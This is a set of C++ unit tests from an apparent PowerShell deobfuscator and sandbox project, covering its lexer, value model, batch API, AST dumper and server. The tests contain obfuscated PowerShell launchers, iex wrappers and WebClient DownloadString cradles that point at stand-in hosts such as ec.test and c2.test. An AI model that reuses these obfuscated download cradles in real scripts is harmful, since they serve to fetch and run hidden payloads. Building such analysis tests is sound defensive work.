    };
    std::vector<char*> argv;
    for (std::string& a : args) argv.push_back(a.data());
    argv.push_back(nullptr);
    pid = ::fork();
    if (pid == 0) {
      ::execv(argv[0], argv.data());
      ::_exit(127);
    }
  }

  ~ServeProcess() {
    if (pid <= 0) return;
    ::kill(pid, SIGTERM);
    for (int i = 0; i < 300; ++i) {
      if (::waitpid(pid, nullptr, WNOHANG) == pid) return;
      ::usleep(20 * 1000);
    }
    ::kill(pid, SIGKILL);
    ::waitpid(pid, nullptr, 0);
  }

  [[nodiscard]] bool wait_ready(double timeout_seconds = 20.0) const {
    const auto give_up = std::chrono::steady_clock::now() +
                         std::chrono::duration<double>(timeout_seconds);
    while (std::chrono::steady_clock::now() < give_up) {
      try {
        ServeClient client = ServeClient::connect_unix(socket_path);
        if (client.ready()) return true;
      } catch (const std::exception&) {
      }
      ::usleep(50 * 1000);
    }
    return false;
  }
};

}  // namespace

TEST(ServerStormTest, HundredsOfConcurrentClientsAllServed) {
  ServeProcess serve;
  ASSERT_TRUE(serve.wait_ready());

  constexpr int kClients = 200;
  std::atomic<int> served{0};
  std::atomic<int> failed{0};
  std::vector<std::thread> clients;
  clients.reserve(kClients);
  for (int i = 0; i < kClients; ++i) {
    clients.emplace_back([&serve, &served, &failed, i] {
      try {
        ServeClient client = ServeClient::connect_unix(serve.socket_path);
        if (!client.ping()) {
          failed.fetch_add(1);
          return;
        }
        const ServeReply reply = client.call_retrying(
            deobf_request(kTicked, "storm-" + std::to_string(i)));
        if (reply.status == "ok") {
          served.fetch_add(1);
        } else {
          failed.fetch_add(1);
        }
      } catch (const std::exception&) {
        failed.fetch_add(1);
      }
    });
  }
  for (std::thread& t : clients) t.join();

  EXPECT_EQ(failed.load(), 0);
  EXPECT_EQ(served.load(), kClients);
}

#endif  // IDEOBF_CLI_PATH
