// Tests for the thread-parallel batch API and the member-assignment /
// WebClient-property additions behind realistic downloader prologues.

#include <gtest/gtest.h>

#include "core/batch.h"
#include "corpus/corpus.h"
#include "psinterp/interpreter.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

TEST(Batch, MatchesSerialResults) {
  CorpusGenerator gen(7);
  std::vector<std::string> scripts;
  for (const Sample& s : gen.generate_batch(24)) {
    scripts.push_back(s.obfuscated);
  }
  InvokeDeobfuscator deobf;

  const auto serial = deobfuscate_batch(deobf, scripts, 1);
  const auto parallel = deobfuscate_batch(deobf, scripts, 4);
  ASSERT_EQ(serial.size(), parallel.size());
  for (std::size_t i = 0; i < serial.size(); ++i) {
    EXPECT_EQ(serial[i], parallel[i]) << "sample " << i;
  }
}

TEST(Batch, PreservesOrderAndTotality) {
  InvokeDeobfuscator deobf;
  const std::vector<std::string> scripts = {
      "iex 'Write-Host zero'",
      "broken ( input",  // invalid: must come back unchanged
      "iex 'Write-Host two'",
  };
  const auto out = deobfuscate_batch(deobf, scripts, 3);
  ASSERT_EQ(out.size(), 3u);
  EXPECT_NE(out[0].find("zero"), std::string::npos);
  EXPECT_EQ(out[1], scripts[1]);
  EXPECT_NE(out[2].find("two"), std::string::npos);
}

TEST(Batch, EmptyInput) {
  InvokeDeobfuscator deobf;
  EXPECT_TRUE(deobfuscate_batch(deobf, {}, 0).empty());
}

TEST(MemberAssign, ServicePointManagerPrologue) {
  ps::Interpreter interp;
  // The ubiquitous TLS prologue must execute as a no-op, not an error.
  EXPECT_NO_THROW(interp.evaluate_script(
      "[Net.ServicePointManager]::SecurityProtocol = "
      "[Net.SecurityProtocolType]::Tls12"));
}

TEST(MemberAssign, WebClientHeaderStore) {
  ps::Interpreter interp;
  EXPECT_NO_THROW(interp.evaluate_script(
      "$wc = New-Object Net.WebClient\n"
      "$wc.Headers['User-Agent'] = 'Mozilla/5.0'\n"
      "$wc.Encoding = [Text.Encoding]::UTF8"));
}

TEST(MemberAssign, DownloaderFamilyStillBehaves) {
  // The corpus downloader now carries the TLS prologue; obfuscation and
  // deobfuscation must still preserve its behavior.
  CorpusGenerator gen(31);
  Sandbox sandbox;
  InvokeDeobfuscator deobf;
  for (int i = 0; i < 12; ++i) {
    const Sample s = gen.generate();
    if (s.family != "downloader") continue;
    const BehaviorProfile a = sandbox.run(s.original);
    const BehaviorProfile b = sandbox.run(deobf.deobfuscate(s.obfuscated));
    EXPECT_TRUE(Sandbox::same_network_behavior(a, b)) << s.obfuscated;
  }
}

}  // namespace
}  // namespace ideobf
