// Tests for the thread-parallel batch API and the member-assignment /
// WebClient-property additions behind realistic downloader prologues.

#include <gtest/gtest.h>

#include "core/batch.h"
#include "corpus/corpus.h"
#include "psinterp/interpreter.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

TEST(Batch, MatchesSerialResults) {
  CorpusGenerator gen(7);
  std::vector<std::string> scripts;
  for (const Sample& s : gen.generate_batch(24)) {
    scripts.push_back(s.obfuscated);
  }
  InvokeDeobfuscator deobf;

  const auto serial = deobfuscate_batch(deobf, scripts, 1);
  const auto parallel = deobfuscate_batch(deobf, scripts, 4);
  ASSERT_EQ(serial.size(), parallel.size());
  for (std::size_t i = 0; i < serial.size(); ++i) {
    EXPECT_EQ(serial[i], parallel[i]) << "sample " << i;
  }
}

TEST(Batch, PreservesOrderAndTotality) {
  InvokeDeobfuscator deobf;
  const std::vector<std::string> scripts = {
      "iex 'Write-Host zero'",
      "broken ( input",  // invalid: must come back unchanged
      "iex 'Write-Host two'",
  };
  const auto out = deobfuscate_batch(deobf, scripts, 3);
  ASSERT_EQ(out.size(), 3u);
  EXPECT_NE(out[0].find("zero"), std::string::npos);
  EXPECT_EQ(out[1], scripts[1]);
  EXPECT_NE(out[2].find("two"), std::string::npos);
}

TEST(Batch, EmptyInput) {
  InvokeDeobfuscator deobf;
  EXPECT_TRUE(deobfuscate_batch(deobf, {}, 0).empty());
}

TEST(Batch, ReportRecordsPerItemOutcomes) {
  InvokeDeobfuscator deobf;
  // A pathological script: deeply nested unbalanced groups that stress the
  // parser's error path, plus normal and no-op items around it.
  std::string pathological;
  for (int i = 0; i < 300; ++i) pathological += "$( ( ";
  pathological += "broken";
  const std::vector<std::string> scripts = {
      "iex 'Write-Host alpha'",
      pathological,
      "Write-Host plain",
  };

  BatchReport report;
  const auto out = deobfuscate_batch(deobf, scripts, report, 2);
  ASSERT_EQ(out.size(), 3u);
  ASSERT_EQ(report.items.size(), 3u);

  // Totality: even the pathological item produced a result (unchanged), and
  // every item carries a verdict plus a wall time.
  EXPECT_EQ(out[1], pathological);
  for (const BatchItem& item : report.items) {
    EXPECT_TRUE(item.ok) << item.error;
    EXPECT_GE(item.seconds, 0.0);
  }
  EXPECT_TRUE(report.items[0].changed);
  EXPECT_FALSE(report.items[1].changed);
  EXPECT_EQ(report.failed(), 0);
  EXPECT_GE(report.changed(), 1);
  EXPECT_GE(report.wall_seconds, 0.0);
}

TEST(Batch, OldSignatureDelegatesToReportOverload) {
  InvokeDeobfuscator deobf;
  const std::vector<std::string> scripts = {"iex 'Write-Host beta'"};
  BatchReport report;
  EXPECT_EQ(deobfuscate_batch(deobf, scripts, 2),
            deobfuscate_batch(deobf, scripts, report, 2));
}

TEST(MemberAssign, ServicePointManagerPrologue) {
  ps::Interpreter interp;
  // The ubiquitous TLS prologue must execute as a no-op, not an error.
  EXPECT_NO_THROW(interp.evaluate_script(
      "[Net.ServicePointManager]::SecurityProtocol = "
      "[Net.SecurityProtocolType]::Tls12"));
}

TEST(MemberAssign, WebClientHeaderStore) {
  ps::Interpreter interp;
  EXPECT_NO_THROW(interp.evaluate_script(
      "$wc = New-Object Net.WebClient\n"
      "$wc.Headers['User-Agent'] = 'Mozilla/5.0'\n"
      "$wc.Encoding = [Text.Encoding]::UTF8"));
}

TEST(MemberAssign, DownloaderFamilyStillBehaves) {
  // The corpus downloader now carries the TLS prologue; obfuscation and
  // deobfuscation must still preserve its behavior.
  CorpusGenerator gen(31);
  Sandbox sandbox;
  InvokeDeobfuscator deobf;
  for (int i = 0; i < 12; ++i) {
    const Sample s = gen.generate();
    if (s.family != "downloader") continue;
    const BehaviorProfile a = sandbox.run(s.original);
    const BehaviorProfile b = sandbox.run(deobf.deobfuscate(s.obfuscated));
    EXPECT_TRUE(Sandbox::same_network_behavior(a, b)) << s.obfuscated;
  }
}

}  // namespace
}  // namespace ideobf
