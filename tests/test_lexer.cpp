// Unit tests for the PowerShell tokenizer (PSParser::Tokenize substitute).

#include <gtest/gtest.h>

#include "pslang/alias_table.h"
#include "pslang/lexer.h"

namespace ps {
namespace {

TokenStream lex(std::string_view src) { return tokenize(src); }

/// Filtered view of a token stream. Keeps the TokenStream (and with it the
/// pinned source/interner buffers the tokens' views point into) alive for
/// as long as the filtered tokens are used.
struct SignificantTokens {
  TokenStream stream;
  std::vector<Token> toks;

  [[nodiscard]] std::size_t size() const { return toks.size(); }
  const Token& operator[](std::size_t i) const { return toks[i]; }
  [[nodiscard]] auto begin() const { return toks.begin(); }
  [[nodiscard]] auto end() const { return toks.end(); }
};

SignificantTokens significant(std::string_view src) {
  SignificantTokens out;
  out.stream = tokenize(src);
  for (auto& t : out.stream) {
    if (t.type != TokenType::NewLine && t.type != TokenType::Comment &&
        t.type != TokenType::LineContinuation) {
      out.toks.push_back(t);
    }
  }
  return out;
}

TEST(Lexer, SimpleCommand) {
  auto toks = significant("Write-Host hello");
  ASSERT_EQ(toks.size(), 2u);
  EXPECT_EQ(toks[0].type, TokenType::Command);
  EXPECT_EQ(toks[0].content, "Write-Host");
  EXPECT_EQ(toks[1].type, TokenType::CommandArgument);
  EXPECT_EQ(toks[1].content, "hello");
}

TEST(Lexer, CommandWithParameter) {
  auto toks = significant("powershell -EncodedCommand aGkA");
  ASSERT_EQ(toks.size(), 3u);
  EXPECT_EQ(toks[0].type, TokenType::Command);
  EXPECT_EQ(toks[1].type, TokenType::CommandParameter);
  EXPECT_EQ(toks[1].content, "-EncodedCommand");
  EXPECT_EQ(toks[2].type, TokenType::CommandArgument);
}

TEST(Lexer, TickedCommandNameIsUnescaped) {
  // Listing 2 of the paper: ticking only has visual effect.
  auto toks = significant("nE`w-oBjE`Ct nET.wE`bcLiEnT");
  ASSERT_EQ(toks.size(), 2u);
  EXPECT_EQ(toks[0].type, TokenType::Command);
  EXPECT_EQ(toks[0].content, "nEw-oBjECt");
  EXPECT_EQ(toks[0].text, "nE`w-oBjE`Ct");
  EXPECT_EQ(toks[1].content, "nET.wEbcLiEnT");
}

TEST(Lexer, TokenExtentsTileTheSource) {
  const std::string src = "Write-Host 'a b' $x; iex $y";
  for (const auto& t : lex(src)) {
    EXPECT_EQ(src.substr(t.start, t.length), t.text);
  }
}

TEST(Lexer, SingleQuotedString) {
  auto toks = significant("'it''s'");
  ASSERT_EQ(toks.size(), 1u);
  EXPECT_EQ(toks[0].type, TokenType::String);
  EXPECT_EQ(toks[0].quote, QuoteKind::Single);
  EXPECT_EQ(toks[0].content, "it's");
  EXPECT_FALSE(toks[0].expandable);
}

TEST(Lexer, DoubleQuotedConstant) {
  auto toks = significant(R"("a`tb""c")");
  ASSERT_EQ(toks.size(), 1u);
  EXPECT_EQ(toks[0].quote, QuoteKind::Double);
  EXPECT_FALSE(toks[0].expandable);
  EXPECT_EQ(toks[0].content, "a\tb\"c");
}

TEST(Lexer, DoubleQuotedExpandableKeepsRaw) {
  auto toks = significant(R"("value: $x")");
  ASSERT_EQ(toks.size(), 1u);
  EXPECT_TRUE(toks[0].expandable);
  EXPECT_EQ(toks[0].content, "value: $x");
}

TEST(Lexer, Variables) {
  auto toks = significant("$a = $env:ComSpec");
  ASSERT_EQ(toks.size(), 3u);
  EXPECT_EQ(toks[0].type, TokenType::Variable);
  EXPECT_EQ(toks[0].content, "a");
  EXPECT_EQ(toks[1].type, TokenType::Operator);
  EXPECT_EQ(toks[1].content, "=");
  EXPECT_EQ(toks[2].type, TokenType::Variable);
  EXPECT_EQ(toks[2].content, "env:ComSpec");
}

TEST(Lexer, BracedVariable) {
  auto toks = significant("${weird name}");
  ASSERT_EQ(toks.size(), 1u);
  EXPECT_EQ(toks[0].type, TokenType::Variable);
  EXPECT_EQ(toks[0].content, "weird name");
}

TEST(Lexer, UnderscoreVariable) {
  auto toks = significant("$_ -bxor 0x4B");
  ASSERT_EQ(toks.size(), 3u);
  EXPECT_EQ(toks[0].content, "_");
  EXPECT_EQ(toks[1].type, TokenType::Operator);
  EXPECT_EQ(toks[1].content, "-bxor");
  EXPECT_EQ(toks[2].type, TokenType::Number);
}

TEST(Lexer, PipelineResetsToCommandMode) {
  auto toks = significant("'abc' | iex");
  ASSERT_EQ(toks.size(), 3u);
  EXPECT_EQ(toks[0].type, TokenType::String);
  EXPECT_EQ(toks[1].content, "|");
  EXPECT_EQ(toks[2].type, TokenType::Command);
  EXPECT_EQ(toks[2].content, "iex");
}

TEST(Lexer, FormatOperatorAndIndexing) {
  auto toks = significant("\"{0}\" -f 'a'");
  ASSERT_EQ(toks.size(), 3u);
  EXPECT_EQ(toks[1].type, TokenType::Operator);
  EXPECT_EQ(toks[1].content, "-f");

  toks = significant("$env:ComSpec[4,24,25]");
  ASSERT_GE(toks.size(), 3u);
  EXPECT_EQ(toks[0].type, TokenType::Variable);
  EXPECT_EQ(toks[1].type, TokenType::GroupStart);
  EXPECT_EQ(toks[1].content, "[");
}

TEST(Lexer, TypeLiteralVsIndex) {
  auto toks = significant("[char]65");
  ASSERT_EQ(toks.size(), 2u);
  EXPECT_EQ(toks[0].type, TokenType::Type);
  EXPECT_EQ(toks[0].content, "char");
  EXPECT_EQ(toks[1].type, TokenType::Number);

  // After an operand, adjacent '[' is indexing.
  toks = significant("$x[0]");
  ASSERT_EQ(toks.size(), 4u);
  EXPECT_EQ(toks[1].type, TokenType::GroupStart);

  // A cast chain is two type literals, not an index.
  toks = significant("[STRiNg][CHar]39");
  ASSERT_EQ(toks.size(), 3u);
  EXPECT_EQ(toks[0].type, TokenType::Type);
  EXPECT_EQ(toks[1].type, TokenType::Type);
  EXPECT_EQ(toks[1].content, "CHar");
}

TEST(Lexer, MemberAccessAndInvocation) {
  auto toks = significant("(New-Object Net.WebClient).downloadstring('u')");
  // ( New-Object Net.WebClient ) . downloadstring ( 'u' )
  ASSERT_EQ(toks.size(), 9u);
  EXPECT_EQ(toks[0].type, TokenType::GroupStart);
  EXPECT_EQ(toks[1].type, TokenType::Command);
  EXPECT_EQ(toks[2].type, TokenType::CommandArgument);
  EXPECT_EQ(toks[3].type, TokenType::GroupEnd);
  EXPECT_EQ(toks[4].content, ".");
  EXPECT_EQ(toks[5].type, TokenType::Member);
  EXPECT_EQ(toks[5].content, "downloadstring");
  EXPECT_EQ(toks[6].type, TokenType::GroupStart);
  EXPECT_EQ(toks[7].type, TokenType::String);
}

TEST(Lexer, StaticMember) {
  auto toks = significant("[Convert]::FromBase64String('QQ==')");
  ASSERT_GE(toks.size(), 5u);
  EXPECT_EQ(toks[0].type, TokenType::Type);
  EXPECT_EQ(toks[1].content, "::");
  EXPECT_EQ(toks[2].type, TokenType::Member);
  EXPECT_EQ(toks[2].content, "FromBase64String");
}

TEST(Lexer, DotInvocationOperator) {
  auto toks = significant(". ('ie'+'x') 'write-host hi'");
  EXPECT_EQ(toks[0].type, TokenType::Operator);
  EXPECT_EQ(toks[0].content, ".");
  EXPECT_EQ(toks[1].type, TokenType::GroupStart);
}

TEST(Lexer, AmpersandInvocation) {
  auto toks = significant("& 'iex' $cmd");
  EXPECT_EQ(toks[0].content, "&");
  EXPECT_EQ(toks[1].type, TokenType::String);
  EXPECT_EQ(toks[2].type, TokenType::Variable);
}

TEST(Lexer, KeywordsAndBlocks) {
  auto toks = significant("if ($a) { $b } else { $c }");
  EXPECT_EQ(toks[0].type, TokenType::Keyword);
  EXPECT_EQ(toks[0].content, "if");
  // 'else' after '}' must also be recognized as keyword.
  bool saw_else = false;
  for (auto& t : toks) {
    if (t.type == TokenType::Keyword && t.content == "else") saw_else = true;
  }
  EXPECT_TRUE(saw_else);
}

TEST(Lexer, ForeachAfterPipeIsCommand) {
  auto toks = significant("1,2 | foreach { $_ }");
  bool found = false;
  for (auto& t : toks) {
    if (t.content == "foreach") {
      EXPECT_EQ(t.type, TokenType::Command);
      found = true;
    }
  }
  EXPECT_TRUE(found);
  // Statement-position foreach stays a keyword.
  toks = significant("foreach ($x in $y) { }");
  EXPECT_EQ(toks[0].type, TokenType::Keyword);
}

TEST(Lexer, PercentAliasCommand) {
  auto toks = significant("1,2| fOrEAch-ObJECt{ [cHAR]$_ }");
  bool found = false;
  for (auto& t : toks) {
    if (iequals(t.content, "foreach-object")) {
      EXPECT_EQ(t.type, TokenType::Command);
      found = true;
    }
  }
  EXPECT_TRUE(found);

  toks = significant("1,2 | % { $_ }");
  found = false;
  for (auto& t : toks) {
    if (t.content == "%" && t.type == TokenType::Command) found = true;
  }
  EXPECT_TRUE(found);
}

TEST(Lexer, LineContinuation) {
  auto toks = lex("Write-Host `\nhello");
  bool has_cont = false;
  for (auto& t : toks) {
    if (t.type == TokenType::LineContinuation) has_cont = true;
  }
  EXPECT_TRUE(has_cont);
}

TEST(Lexer, Comments) {
  auto toks = lex("# line comment\nWrite-Host hi <# block #>");
  EXPECT_EQ(toks[0].type, TokenType::Comment);
}

TEST(Lexer, HereString) {
  auto toks = significant("@'\nabc\ndef\n'@");
  ASSERT_EQ(toks.size(), 1u);
  EXPECT_EQ(toks[0].quote, QuoteKind::HereSingle);
  EXPECT_EQ(toks[0].content, "abc\ndef");
}

TEST(Lexer, RangeOperator) {
  auto toks = significant("-1..-9");
  // - 1 .. - 9
  ASSERT_EQ(toks.size(), 5u);
  EXPECT_EQ(toks[2].content, "..");
}

TEST(Lexer, NumberForms) {
  auto toks = significant("0x4B 3.14 10");
  // First token is a Command ("0x4B" begins a statement)? No: digits start a
  // number at statement start.
  EXPECT_EQ(toks[0].type, TokenType::Number);
  EXPECT_EQ(toks[0].content, "0x4B");
}

TEST(Lexer, SplitChainFromListing4) {
  const char* src =
      "( '99S5i46}60' -SPLIT'~' -SPLit 'd' -SPliT '}' | fOrEAch-ObJECt { "
      "[cHAR]($_ -BxoR '0x4B') }) -jOiN ''";
  auto toks = significant(src);
  int split_ops = 0, join_ops = 0;
  for (auto& t : toks) {
    if (t.type == TokenType::Operator && t.content == "-split") split_ops++;
    if (t.type == TokenType::Operator && t.content == "-join") join_ops++;
  }
  EXPECT_EQ(split_ops, 3);
  EXPECT_EQ(join_ops, 1);
}

TEST(Lexer, LenientModeReturnsPartial) {
  bool ok = true;
  auto toks = tokenize_lenient("Write-Host 'unterminated", ok);
  EXPECT_FALSE(ok);
  EXPECT_FALSE(toks.empty());
}

TEST(Lexer, ThrowsOnUnterminatedString) {
  EXPECT_THROW(tokenize("'abc"), LexError);
}

TEST(AliasTable, ResolvesIex) {
  auto full = AliasTable::standard().resolve("IeX");
  ASSERT_TRUE(full.has_value());
  EXPECT_EQ(*full, "Invoke-Expression");
}

TEST(AliasTable, AliasForRoundTrip) {
  auto alias = AliasTable::standard().alias_for("Invoke-Expression");
  ASSERT_TRUE(alias.has_value());
  auto back = AliasTable::standard().resolve(*alias);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, "Invoke-Expression");
}

TEST(AliasTable, KnowsCmdlets) {
  EXPECT_TRUE(AliasTable::standard().is_known_cmdlet("write-host"));
  EXPECT_TRUE(AliasTable::standard().is_known_cmdlet("Invoke-Expression"));
  EXPECT_FALSE(AliasTable::standard().is_known_cmdlet("Totally-Fake"));
}

}  // namespace
}  // namespace ps
