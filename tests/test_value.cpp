// Unit tests for the PowerShell value model (psvalue).

#include <gtest/gtest.h>

#include "psvalue/value.h"

namespace ps {
namespace {

TEST(Value, TypeNames) {
  EXPECT_EQ(Value().type_name(), "Null");
  EXPECT_EQ(Value(true).type_name(), "Boolean");
  EXPECT_EQ(Value(42).type_name(), "Int64");
  EXPECT_EQ(Value(2.5).type_name(), "Double");
  EXPECT_EQ(Value(PsChar{'a'}).type_name(), "Char");
  EXPECT_EQ(Value("s").type_name(), "String");
  EXPECT_EQ(Value(Array{}).type_name(), "Object[]");
  EXPECT_EQ(Value(Bytes{}).type_name(), "Byte[]");
  EXPECT_EQ(Value(Hashtable{}).type_name(), "Hashtable");
  EXPECT_EQ(Value(ScriptBlock{"1"}).type_name(), "ScriptBlock");
}

TEST(Value, DisplayStrings) {
  EXPECT_EQ(Value().to_display_string(), "");
  EXPECT_EQ(Value(true).to_display_string(), "True");
  EXPECT_EQ(Value(false).to_display_string(), "False");
  EXPECT_EQ(Value(42).to_display_string(), "42");
  EXPECT_EQ(Value(2.5).to_display_string(), "2.5");
  EXPECT_EQ(Value(3.0).to_display_string(), "3");
  EXPECT_EQ(Value(PsChar{'x'}).to_display_string(), "x");
  EXPECT_EQ(Value("hi").to_display_string(), "hi");
  EXPECT_EQ(Value(Array{Value("a"), Value("b")}).to_display_string(), "a b");
  EXPECT_EQ(Value(Bytes{1, 2}).to_display_string(), "1 2");
}

TEST(Value, Truthiness) {
  EXPECT_FALSE(Value().to_bool());
  EXPECT_FALSE(Value(0).to_bool());
  EXPECT_FALSE(Value(std::string()).to_bool());
  EXPECT_FALSE(Value(Array{}).to_bool());
  EXPECT_FALSE(Value(Array{Value(0)}).to_bool());  // single falsy element
  EXPECT_TRUE(Value(Array{Value(0), Value(0)}).to_bool());  // length >= 2
  EXPECT_TRUE(Value(1).to_bool());
  EXPECT_TRUE(Value("x").to_bool());
  EXPECT_TRUE(Value(Hashtable{}).to_bool());
}

TEST(Value, IntCoercion) {
  std::int64_t out = 0;
  EXPECT_TRUE(Value(5).try_to_int(out));
  EXPECT_EQ(out, 5);
  EXPECT_TRUE(Value("42").try_to_int(out));
  EXPECT_EQ(out, 42);
  EXPECT_TRUE(Value("0x4B").try_to_int(out));
  EXPECT_EQ(out, 0x4B);
  EXPECT_TRUE(Value(" -7 ").try_to_int(out));
  EXPECT_EQ(out, -7);
  EXPECT_TRUE(Value(PsChar{65}).try_to_int(out));
  EXPECT_EQ(out, 65);
  EXPECT_TRUE(Value(true).try_to_int(out));
  EXPECT_EQ(out, 1);
  EXPECT_TRUE(Value().try_to_int(out));
  EXPECT_EQ(out, 0);
  EXPECT_FALSE(Value("abc").try_to_int(out));
  EXPECT_FALSE(Value("12abc").try_to_int(out));
}

TEST(Value, DoubleCoercion) {
  double out = 0;
  EXPECT_TRUE(Value("2.5").try_to_double(out));
  EXPECT_DOUBLE_EQ(out, 2.5);
  EXPECT_TRUE(Value(3).try_to_double(out));
  EXPECT_DOUBLE_EQ(out, 3.0);
  EXPECT_FALSE(Value("nope").try_to_double(out));
}

TEST(Value, FromStream) {
  EXPECT_TRUE(Value::from_stream({}).is_null());
  EXPECT_EQ(Value::from_stream({Value(1)}).get_int(), 1);
  const Value v = Value::from_stream({Value(1), Value(2)});
  ASSERT_TRUE(v.is_array());
  EXPECT_EQ(v.get_array().size(), 2u);
}

TEST(Value, Equality) {
  EXPECT_EQ(Value(1), Value(1));
  EXPECT_EQ(Value("a"), Value("a"));
  EXPECT_EQ(Value(1), Value(1.0));  // cross-type numeric
  EXPECT_FALSE(Value(1) == Value(2));
  EXPECT_FALSE(Value("a") == Value("b"));
  EXPECT_EQ(Value(Array{Value(1), Value("x")}),
            Value(Array{Value(1), Value("x")}));
  EXPECT_FALSE(Value(Array{Value(1)}) == Value(Array{Value(2)}));
}

TEST(Value, ArraysShareStorage) {
  Value a(Array{Value(1)});
  Value b = a;  // reference semantics, like .NET arrays
  b.get_array().push_back(Value(2));
  EXPECT_EQ(a.get_array().size(), 2u);
}

TEST(Hashtable, CaseInsensitiveFind) {
  Hashtable ht;
  ht.entries.emplace_back(Value("Key"), Value("v1"));
  ASSERT_NE(ht.find("key"), nullptr);
  EXPECT_EQ(ht.find("KEY")->get_string(), "v1");
  EXPECT_EQ(ht.find("other"), nullptr);
}

TEST(Utf8, Encode) {
  EXPECT_EQ(utf8_encode('A'), "A");
  EXPECT_EQ(utf8_encode(0xE9), "\xC3\xA9");      // é
  EXPECT_EQ(utf8_encode(0x20AC), "\xE2\x82\xAC");  // €
  EXPECT_EQ(utf8_encode(0x1F600).size(), 4u);      // emoji
}

TEST(FormatDouble, Shapes) {
  EXPECT_EQ(format_double(1.0), "1");
  EXPECT_EQ(format_double(-3.0), "-3");
  EXPECT_EQ(format_double(2.5), "2.5");
  EXPECT_EQ(format_double(0.125), "0.125");
}

}  // namespace
}  // namespace ps
