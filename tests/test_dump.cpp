// Tests for the AST dumper and the $matches idiom added for wild scripts.

#include <gtest/gtest.h>

#include "psast/dump.h"
#include "psinterp/interpreter.h"

namespace ps {
namespace {

TEST(Dump, ShowsTreeStructure) {
  const std::string out = dump_script("iex ('a'+'b')");
  EXPECT_NE(out.find("ScriptBlockAst"), std::string::npos);
  EXPECT_NE(out.find("CommandAst"), std::string::npos);
  EXPECT_NE(out.find("BinaryExpressionAst"), std::string::npos);
  EXPECT_NE(out.find("'a'"), std::string::npos);
}

TEST(Dump, MarksRecoverableNodes) {
  const std::string out = dump_script("'a'+'b'");
  EXPECT_NE(out.find("BinaryExpressionAst*"), std::string::npos);
  EXPECT_NE(out.find("PipelineAst*"), std::string::npos);
  // Leaves are not recoverable.
  EXPECT_EQ(out.find("StringConstantExpressionAst*"), std::string::npos);
}

TEST(Dump, OptionsControlOutput) {
  DumpOptions opts;
  opts.show_extents = false;
  opts.mark_recoverable = false;
  const std::string out = dump_script("'x'", opts);
  EXPECT_EQ(out.find('['), std::string::npos);
  EXPECT_EQ(out.find('*'), std::string::npos);
}

TEST(Dump, TruncatesLongPayloads) {
  DumpOptions opts;
  opts.max_payload = 8;
  const std::string out =
      dump_script("'averyveryverylongstringliteral'", opts);
  EXPECT_NE(out.find("..."), std::string::npos);
}

TEST(Dump, ParseErrorsAreReported) {
  const std::string out = dump_script("if (");
  EXPECT_NE(out.find("parse error"), std::string::npos);
}

TEST(Dump, EscapesControlCharacters) {
  const std::string out = dump_script("'line1\nline2'");
  EXPECT_NE(out.find("\\n"), std::string::npos);
}

TEST(Matches, PopulatedByScalarMatch) {
  Interpreter interp;
  const Value v = interp.evaluate_script(
      "'url=http://c2.test/x' -match 'url=(.*)' | Out-Null\n$matches[1]");
  EXPECT_EQ(v.to_display_string(), "http://c2.test/x");
}

TEST(Matches, WholeMatchAtIndexZero) {
  Interpreter interp;
  const Value v = interp.evaluate_script(
      "'abc123' -match '\\d+' | Out-Null\n$matches[0]");
  EXPECT_EQ(v.to_display_string(), "123");
}

TEST(Matches, NotPopulatedOnFailure) {
  Interpreter interp;
  interp.evaluate_script("'zzz' -match '^a' | Out-Null");
  // $matches stays untouched (null) after a failed match.
  EXPECT_TRUE(interp.evaluate_script("$matches").is_null());
}

}  // namespace
}  // namespace ps
