// Tests for the $ExecutionContext.InvokeCommand launcher disguise — one of
// the best-known Invoke-Obfuscation iex replacements.

#include <gtest/gtest.h>

#include "core/deobfuscator.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "psinterp/interpreter.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

bool contains_ci(std::string_view haystack, std::string_view needle) {
  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
}

TEST(ExecContext, InvokeScriptExecutes) {
  ps::Interpreter interp;
  EXPECT_EQ(interp
                .evaluate_script("$ExecutionContext.InvokeCommand.InvokeScript("
                                 "\"'ec'+'-ok'\")")
                .to_display_string(),
            "ec-ok");
}

TEST(ExecContext, NewScriptBlock) {
  ps::Interpreter interp;
  EXPECT_EQ(interp
                .evaluate_script("$sb = $ExecutionContext.InvokeCommand."
                                 "NewScriptBlock('21 * 2'); $sb.Invoke()")
                .get_int(),
            42);
}

TEST(ExecContext, ExpandString) {
  ps::Interpreter interp;
  EXPECT_EQ(interp
                .evaluate_script("$v = 'z'; $ExecutionContext.InvokeCommand."
                                 "ExpandString('val=$v')")
                .to_display_string(),
            "val=z");
}

TEST(ExecContext, RecoveryUnwindsTheDisguise) {
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate(
      "$ExecutionContext.InvokeCommand.InvokeScript(('exec-'+'marker'))");
  EXPECT_TRUE(contains_ci(out, "exec-marker")) << out;
}

TEST(ExecContext, BehaviorFlowsThrough) {
  Sandbox sandbox;
  const BehaviorProfile p = sandbox.run(
      "$ExecutionContext.InvokeCommand.InvokeScript(\"(New-Object "
      "Net.WebClient).DownloadString('http://ec.test/x')\")");
  EXPECT_TRUE(p.network.count("dns:ec.test")) << p.error;
}

TEST(ExecContext, ObfuscatorEmitsItAndRoundTrips) {
  // The wrap_layer style pool includes the ExecutionContext launcher;
  // every emitted form must round-trip.
  Obfuscator obf(41);
  InvokeDeobfuscator deobf;
  Sandbox sandbox;
  int seen_launcher = 0;
  for (int i = 0; i < 30; ++i) {
    const std::string wrapped = obf.wrap_layer(
        "Write-Output 'wrapped-ec'", Technique::Concat,
        Obfuscator::LayerStyle::IexArgument);
    if (contains_ci(wrapped, "ExecutionContext")) ++seen_launcher;
    const BehaviorProfile p = sandbox.run(wrapped);
    EXPECT_TRUE(p.executed_ok) << wrapped << "\n" << p.error;
  }
  EXPECT_GE(seen_launcher, 1);
}

}  // namespace
}  // namespace ideobf
