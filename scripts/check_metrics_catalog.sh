#!/bin/sh
# Metrics-catalog lint: every `ideobf_*` metric name minted anywhere in
# src/ must have a row in docs/OBSERVABILITY.md. Registered as the
# `metrics_catalog_lint` ctest entry so a new metric cannot land without
# its documentation.
#
# Matching is a literal substring check against the doc, so the catalog
# must spell out full metric names (no `ideobf_foo_{a,b}_total` shorthand).
set -eu

root="$(cd "$(dirname "$0")/.." && pwd)"
doc="$root/docs/OBSERVABILITY.md"

if [ ! -f "$doc" ]; then
